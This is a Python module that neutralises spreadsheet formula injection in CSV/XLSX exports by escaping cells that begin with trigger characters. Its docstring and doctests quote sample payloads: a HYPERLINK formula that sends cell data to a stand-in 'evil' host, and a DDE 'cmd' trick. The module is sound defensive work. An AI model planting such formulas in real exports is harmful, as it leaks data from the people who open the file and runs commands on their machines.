"""Spreadsheet formula injection: neutralise the cells of every CSV/XLSX export.

Excel, LibreOffice and WPS read a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula (``=HYPERLINK("http://evil/?"&A1, "click")``, ``@SUM(...)``, the DDE
trick ``-2+3+cmd|' /C calc'!A0``), and a leading tab or carriage return can hide such a
start. A customer name, a remark or a bank reference typed by anyone would then run as
a formula on the desk of whoever opens the export. Every export of lowlend passes its
cells through :func:`safe_cell` (or :func:`safe_rows`), which prefixes such text with an
apostrophe, so the spreadsheet shows it as text:

>>> safe_cell('=HYPERLINK("http://x.test/?"&A1,"click")')
'\\'=HYPERLINK("http://x.test/?"&A1,"click")'
>>> [safe_cell(v) for v in ("+86 138 0013 8000", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0")]
["'+86 138 0013 8000", "'@SUM(A1:A9)", "'-2+3+cmd|' /C calc'!A0"]
>>> safe_cell("\\t=1+1"), safe_cell("\\r=1+1")
("'\\t=1+1", "'\\r=1+1")

Plain numbers stay numbers (a negative amount, a signed rate, thousands separators, a
percentage), and so does everything that does not start with a trigger character:

>>> [safe_cell(v) for v in ("-12.50", "+3", "-1,234.50", "-5.25%", "12.50", "张三", "")]
['-12.50', '+3', '-1,234.50', '-5.25%', '12.50', '张三', '']
>>> safe_cell("-"), safe_cell("--1"), safe_cell("-1-1")
("'-", "'--1", "'-1-1")

Values that are not text (numbers, dates, ``None``) are returned unchanged, so an XLSX
writer still stores numbers as numbers:

>>> from decimal import Decimal
>>> safe_cell(Decimal("-12.50")), safe_cell(-3), safe_cell(None)
(Decimal('-12.50'), -3, None)
>>> safe_rows([["name", "amount"], ["=cmd", "-1.00"]])
[['name', 'amount'], ["'=cmd", '-1.00']]
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any, Final, TypeVar

__all__ = ["TRIGGERS", "safe_cell", "safe_rows"]

TRIGGERS: Final[frozenset[str]] = frozenset({"=", "+", "-", "@", "\t", "\r"})
"""First characters that make a spreadsheet program read a cell as a formula."""

_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+|\d{1,3}(?:,\d{3})+)(?:\.\d+)?%?\Z")
"""A signed decimal number, optionally with thousands separators or a percent sign."""

T = TypeVar("T")


def safe_cell(value: T) -> T | str:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run."""
    if not isinstance(value, str) or not value or value[0] not in TRIGGERS:
        return value
    if _PLAIN_NUMBER.match(value):
        return value
    return "'" + value


def safe_rows(rows: Iterable[Iterable[Any]]) -> list[list[Any]]:
    """Every cell of ``rows`` through :func:`safe_cell` (a new list of lists)."""
    return [[safe_cell(cell) for cell in row] for row in rows]
